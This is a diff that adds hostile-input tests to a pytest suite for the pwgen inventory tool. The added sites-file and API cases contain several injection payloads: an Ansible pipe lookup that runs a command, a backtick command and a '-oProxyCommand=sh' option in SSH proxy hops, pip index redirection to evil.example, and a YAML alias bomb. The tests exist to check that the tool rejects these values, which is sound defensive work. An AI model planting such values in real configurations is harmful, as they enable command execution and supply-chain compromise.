@@ -26,7 +26,7 @@ from typing import Any
 import pytest
 from facts_samples import COMPUTE, provisioned_facts
 from helpers import assert_one_line_error, run_pwgen
-from pw_server import DEFAULT_KEY, PWServer
+from pw_server import DEFAULT_KEY, PWServer, make_key
 
 LOCAL_SITES = "sites:\n  - {label: local, scheduler: local}\n"
 REMOTE_SITES = "sites:\n  - {label: s1, scheduler: slurm, host: 127.0.0.1, port: 1, user: alice}\n"
@@ -102,6 +102,32 @@ def _state_dir_is_a_file(project: Path) -> None:
 
 CLUSTER = {"name": "c1", "status": "on", "schedulerType": "slurm", "ipAddress": "192.0.2.1"}
 TO_PW = ("inventory", "--from", "pw", "-o", "inv.yml")
+# Hostile values must never become code: `inventory` writes what Ansible would read.
+TO_INVENTORY = ("inventory", "--from", "sites.yaml", "-o", "inv.yml")
+PIPE_LOOKUP = "{{ lookup('pipe', 'touch pwned') }}"
+# Ten lines whose naive expansion is 9**9 strings (the "billion laughs").
+ALIAS_BOMB = (
+    'l0: &l0 "lol"\n'
+    + "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 9))
+    + "sites: [*l8]\n"
+)
+# Longest error line pwgen may print: a hostile value is never echoed whole.
+MAX_ERROR_LINE = 1000
+
+
+def _remote_site(**fields: str) -> str:
+    """REMOTE_SITES with more fields (flow style, values quoted by json.dumps)."""
+    extra = "".join(f", {name}: {json.dumps(value)}" for name, value in fields.items())
+    return REMOTE_SITES.replace("user: alice}", f"user: alice{extra}}}")
+
+
+def _env_site(**env: Any) -> str:
+    return "sites:\n  - label: a\n    scheduler: local\n    env: " + json.dumps(env) + "\n"
+
+
+def _huge_file(name: str, size: int) -> Callable[[Path], None]:
+    return lambda project: (project / name).write_bytes(b"#" * size + b"\nsites: []\n")
+
 
 BAD_SITES = {
     "yaml_syntax": ("sites:\n  - label: a\n   scheduler: local\n", "sites.yaml:3:"),
@@ -309,6 +335,109 @@ CASES: dict[str, Case] = {
             "executor: flux}\n  - {label: local, scheduler: local}\n"
         },
     ),
+    # ---------------------------------------------------------------- hostile sites files
+    "sites_proxy_jump_command_in_second_hop": Case(
+        TO_INVENTORY,
+        ("sites.yaml:2: sites[0].proxy_jump", "hop 2"),
+        files={"sites.yaml": _remote_site(proxy_jump="h:1,a`touch pwned`")},
+    ),
+    "sites_proxy_jump_option_hop": Case(
+        ("provision",),
+        ("sites[0].proxy_jump", "'-oProxyCommand=sh'"),
+        files={"sites.yaml": _remote_site(proxy_jump="bastion,-oProxyCommand=sh")},
+    ),
+    "sites_template_in_env_python": Case(
+        TO_INVENTORY,
+        ("sites.yaml:4: sites[0].env.python", "template"),
+        files={"sites.yaml": _env_site(python=PIPE_LOOKUP)},
+    ),
+    "sites_template_in_env_prefix": Case(
+        ("config",),
+        ("sites[0].env.prefix", "template"),
+        files={"sites.yaml": _env_site(prefix="{% set x = 1 %}/envs")},
+    ),
+    "sites_template_in_extra_packages": Case(
+        TO_INVENTORY,
+        ("sites[0].env.extra_packages", "template"),
+        files={"sites.yaml": _env_site(extra_packages=[PIPE_LOOKUP])},
+    ),
+    "sites_template_in_worker_init": Case(
+        ("run", "wf.py"),
+        ("sites[0].worker_init", "template"),
+        files={
+            "sites.yaml": "sites:\n  - label: a\n    scheduler: local\n"
+            f"    worker_init: {json.dumps(PIPE_LOOKUP)}\n"
+        },
+    ),
+    "sites_template_in_identity_file": Case(
+        TO_INVENTORY,
+        ("sites[0].identity_file", "template"),
+        files={"sites.yaml": _remote_site(identity_file="~/.ssh/{# x #}id")},
+    ),
+    "sites_jinja_override_header_in_workdir": Case(
+        TO_INVENTORY,
+        ("sites[0].workdir", "template"),
+        files={"sites.yaml": _remote_site(workdir="#jinja2:variable_start_string:'<<'\n<< 1 >>")},
+    ),
+    "sites_extra_packages_pip_option": Case(
+        TO_INVENTORY,
+        ("sites[0].env.extra_packages", "'--index-url=https://evil.example/simple'"),
+        files={"sites.yaml": _env_site(extra_packages=["--index-url=https://evil.example/simple"])},
+    ),
+    "sites_extra_packages_url": Case(
+        ("config",),
+        ("sites[0].env.extra_packages", "URL"),
+        files={"sites.yaml": _env_site(extra_packages=["numpy @ https://evil.example/n.whl"])},
+    ),
+    "sites_extra_packages_two_in_one": Case(
+        ("config",),
+        ("sites[0].env.extra_packages", "requirement"),
+        files={"sites.yaml": _env_site(extra_packages=["numpy scipy"])},
+    ),
+    "sites_alias_bomb": Case(
+        ("config",), ("sites.yaml", "alias"), files={"sites.yaml": ALIAS_BOMB}
+    ),
+    "sites_deep_nesting": Case(
+        ("config",), ("sites.yaml:1:", "nested"), files={"sites.yaml": "sites: " + "[" * 5000}
+    ),
+    "sites_huge_value_not_echoed": Case(
+        ("config",),
+        ("sites[0].partition", "..."),
+        files={"sites.yaml": _remote_site(partition="x;" * 300_000)},
+    ),
+    "sites_integer_too_long": Case(
+        ("config",),
+        ("sites.yaml:2:", "cannot read this value"),
+        files={
+            "sites.yaml": "sites:\n  - {label: a, scheduler: local, max_blocks: "
+            + "9" * 5000
+            + "}\n"
+        },
+    ),
+    "sites_impossible_date": Case(
+        ("config",),
+        ("sites.yaml:2:", "day is out of range"),
+        files={"sites.yaml": "sites:\n  - {label: a, scheduler: local, workdir: 2026-02-30}\n"},
+    ),
+    "sites_is_a_fifo": Case(
+        ("run", "wf.py", "--sites", "pipe.yaml"),
+        ("pipe.yaml: cannot read sites file", "not a regular file"),
+        prepare=_fifo("pipe.yaml"),
+    ),
+    "sites_is_a_fifo_from_env": Case(
+        ("config",),
+        ("pipe.yaml: cannot read sites file", "not a regular file"),
+        env={"PWGEN_SITES": "pipe.yaml"},
+        prepare=_fifo("pipe.yaml"),
+    ),
+    "sites_is_dev_zero": Case(
+        ("config", "--sites", "/dev/zero"), ("/dev/zero: cannot read sites file", "not a regular")
+    ),
+    "sites_too_big": Case(
+        ("inventory", "--from", "big.yaml", "-o", "inv.yml"),
+        ("big.yaml: cannot read sites file", "larger than 1 MiB"),
+        prepare=_huge_file("big.yaml", 2 << 20),
+    ),
     # ---------------------------------------------------------------- facts files
     "facts_missing_config": Case(
         ("config",),
@@ -474,6 +603,40 @@ CASES: dict[str, Case] = {
     "pw_legacy_wrong_shape": Case(
         TO_PW, ("expected a list of resources",), pw=dict(legacy=True, resources={"x": 1})
     ),
+    "pw_template_in_workdir": Case(
+        TO_PW,
+        ("cluster 'c1'", "workdir (from variables.workdir)", "template"),
+        pw=dict(clusters=[{**CLUSTER, "workdir": PIPE_LOOKUP}]),
+    ),
+    "pw_legacy_template_in_workdir": Case(
+        TO_PW,
+        ("cluster 'r1'", "workdir", "template"),
+        pw=dict(
+            legacy=True,
+            resources=[
+                {
+                    "name": "r1",
+                    "status": "on",
+                    "controllerIp": "192.0.2.1",
+                    "variables": {"workdir": PIPE_LOOKUP},
+                }
+            ],
+        ),
+    ),
+    "pw_huge_answer": Case(TO_PW, ("answer is larger than",), pw=dict(huge=64 << 20)),
+    "pw_deeply_nested_json": Case(
+        TO_PW, ("/api/clusters", "nested"), pw=dict(body=b"[" * 100_000 + b"]" * 100_000)
+    ),
+    "pw_plain_http_off_loopback": Case(
+        TO_PW,
+        ("PW_PLATFORM_HOST", "http://0.0.0.0:", "https", "PWGEN_ALLOW_HTTP"),
+        env={"PW_API_KEY": DEFAULT_KEY, "PW_PLATFORM_HOST": "http://0.0.0.0:{closed_port}"},
+    ),
+    "pw_key_says_plain_http": Case(
+        TO_PW,
+        ("the host in PW_API_KEY", "https", "PWGEN_ALLOW_HTTP"),
+        env={"PW_API_KEY": make_key("http://0.0.0.0:9")},
+    ),
     # ---------------------------------------------------------------- the workflow
     "workflow_missing": Case(("run", "nowhere.py"), ("nowhere.py: workflow script not found",)),
     "workflow_missing_with_remote_sites": Case(
@@ -572,6 +735,8 @@ def test_bad_input(name: str, tmp_path: Path, request: pytest.FixtureRequest) ->
     result = run_pwgen(*case.args, cwd=project, env=env, timeout=60)
 
     assert_one_line_error(result, *case.needles)
+    assert len(result.stderr) < MAX_ERROR_LINE, f"{len(result.stderr)} characters of error"
+    assert not (project / "pwned").exists(), "a site value ran a command"
     assert "the workflow ran" not in result.stdout
     key = env.get("PW_API_KEY")
     if key:
